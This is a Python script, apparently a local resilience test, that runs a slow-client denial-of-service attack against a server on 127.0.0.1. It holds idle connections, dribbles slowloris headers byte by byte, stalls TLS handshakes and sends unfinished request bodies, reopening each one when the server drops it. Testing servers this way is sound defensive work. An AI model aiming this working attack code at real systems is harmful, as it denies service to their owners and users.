"""Slow-client attacker, run as a separate process.

    python sec_slow.py --port P --idle 50 --handshakes 20 --seconds 10

Holds ``--idle`` connections (half of them silent TCP, half completing TLS and then sending
request headers one byte at a time: slowloris) and ``--handshakes`` TLS handshakes that stop
after the ClientHello (half send all of it, half only its first bytes). Whenever the server
drops one, it is reopened at once, so the pressure is held for the whole period. Prints
"ready" when all are open, then one JSON line with the counts at the end.
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import ssl
import sys
import time


def client_hello() -> bytes:
    """The first flight of a real TLS client, produced without any server."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


class Attack:
    def __init__(self, port: int, tls: bool) -> None:
        self.port, self.tls = port, tls
        self.hello = client_hello()
        self.ctx = ssl.create_default_context()
        self.ctx.check_hostname = False
        self.ctx.verify_mode = ssl.CERT_NONE
        self.opened: dict[str, int] = {
            "idle": 0, "slowloris": 0, "stalled_handshake": 0, "slow_body": 0,
        }
        self.dropped_by_server: dict[str, int] = {k: 0 for k in self.opened}
        self.failed_opens = 0
        self.slowloris_bytes = 0

    def open(self, kind: str, i: int) -> dict | None:
        try:
            s = socket.create_connection(("127.0.0.1", self.port), timeout=2)
            if kind in ("slowloris", "slow_body") and self.tls:
                s = self.ctx.wrap_socket(s)
            if kind == "stalled_handshake":
                s.sendall(self.hello if i % 2 == 0 else self.hello[:7])
            if kind == "slow_body":  # a whole head, then a body that never finishes
                path = b"/api/v1/ranks" if i % 2 else b"/api/v1/jobs"
                s.sendall(b"POST " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                          b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{")
            s.setblocking(False)
        except OSError:
            self.failed_opens += 1
            return None
        self.opened[kind] += 1
        return {"kind": kind, "sock": s, "i": i, "pos": 0}

    def alive(self, c: dict) -> bool:
        s = c["sock"]
        try:
            r, _, _ = select.select([s], [], [], 0)
            if not r:
                return True
            data = s.recv(65536)  # server flight of a stalled handshake: read, never answer
            return bool(data)
        except ssl.SSLWantReadError:
            return True
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False

    def dribble(self, c: dict) -> None:
        header = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: "
        byte = b" " if c["kind"] == "slow_body" else header[c["pos"] : c["pos"] + 1] or b"a"
        try:
            c["sock"].send(byte)
            c["pos"] += 1
            self.slowloris_bytes += 1
        except (ssl.SSLWantWriteError, BlockingIOError):
            pass
        except OSError:
            pass

    def run(self, n_idle: int, n_hs: int, seconds: float, n_bodies: int = 0) -> None:
        kinds = (["idle"] * (n_idle - n_idle // 2) + ["slowloris"] * (n_idle // 2)
                 + ["stalled_handshake"] * n_hs + ["slow_body"] * n_bodies)
        conns = [self.open(k, i) for i, k in enumerate(kinds)]
        print("ready", flush=True)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for idx, c in enumerate(conns):
                if c is None or not self.alive(c):
                    if c is not None:
                        self.dropped_by_server[c["kind"]] += 1
                        c["sock"].close()
                    conns[idx] = self.open(kinds[idx], idx)
                elif c["kind"] in ("slowloris", "slow_body"):
                    self.dribble(c)
            time.sleep(0.2)
        held = sum(1 for c in conns if c is not None and self.alive(c))
        for c in conns:
            if c is not None:
                c["sock"].close()
        print(json.dumps({
            "opened": self.opened,
            "dropped_by_server": self.dropped_by_server,
            "failed_opens": self.failed_opens,
            "slowloris_bytes": self.slowloris_bytes,
            "open_at_end": held,
        }), flush=True)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--idle", type=int, default=50)
    ap.add_argument("--handshakes", type=int, default=20)
    ap.add_argument("--bodies", type=int, default=0, help="slow request bodies")
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--plain", action="store_true", help="target is plain HTTP")
    args = ap.parse_args()
    Attack(args.port, tls=not args.plain).run(
        args.idle, args.handshakes, args.seconds, args.bodies
    )
    sys.stdout.flush()


if __name__ == "__main__":
    main()
